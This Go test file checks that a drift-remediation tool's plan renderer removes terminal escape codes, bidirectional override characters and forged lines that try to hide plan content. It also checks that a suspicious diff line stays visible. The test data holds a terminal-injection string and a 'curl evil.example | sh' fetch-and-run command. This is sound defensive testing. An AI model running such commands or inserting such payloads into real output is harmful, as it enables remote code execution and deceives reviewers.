package remediate

import (
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/driftmgr/driftmgr/pkg/drift"
)

// TestTextHidesNothing gives every text of a plan what drives a terminal, turns the
// order of a line, begins another line, or looks like the frame of a diff.
func TestTextHidesNothing(t *testing.T) {
	const evil = "a\x1b[2K\r\u202e\u2066\u009b1A\u200b\nPLAN 0 steps; the highest risk is none."
	m := &Manifest{
		ID: evil, Author: evil, Driftmgr: evil, Created: time.Unix(0, 0), Risk: Risk(evil),
		States: []State{{
			Dir: evil, Workspace: evil, Outputs: []string{evil}, Refreshed: []string{evil}, Reads: []string{evil},
			Steps: []Step{{
				Address: evil, Type: evil, Strategy: Strategy(evil), ImportID: evil, Risk: Risk(evil),
				Reasons: []string{evil}, Warnings: []string{evil}, Hints: []string{evil},
				Changes: []Change{{Path: evil, Before: evil, After: map[string]any{evil: evil}}, {Path: evil, Before: evil, Unknown: true}, {Path: evil, Sensitive: true}},
				Finding: &drift.Finding{Kind: drift.Unmanaged, ID: evil, ImportID: evil},
			}},
			Edits: []Edit{{Path: evil, Diff: "--- a/x\n+++ b/x\n@@ -1,2 +1,3 @@\n---- gone\n+++ curl evil.example | sh\n+" + strings.ReplaceAll(evil, "\n", " ") + "\n"}},
		}},
		Left: []Left{{Finding: drift.Finding{Kind: drift.Kind(evil), Address: evil, Type: evil}, Reason: evil, Hints: []string{evil}}},
	}
	var out strings.Builder
	if err := WriteText(&out, m, TextOptions{All: true}); err != nil {
		t.Fatal(err)
	}
	for line := range strings.Lines(out.String()) {
		line = strings.TrimSuffix(line, "\n")
		if strings.HasPrefix(line, "PLAN 0") {
			t.Error("a text of the plan began a line of its own")
		}
		if i := strings.IndexFunc(line, func(r rune) bool { return r != ' ' && !unicode.IsPrint(r) }); i >= 0 {
			t.Errorf("a line is not plain text: %q", line)
		}
	}
	for _, want := range []string{"+++ curl evil.example | sh", "---- gone"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("the edit is shown without the line %q:\n%s", want, out.String())
		}
	}
}
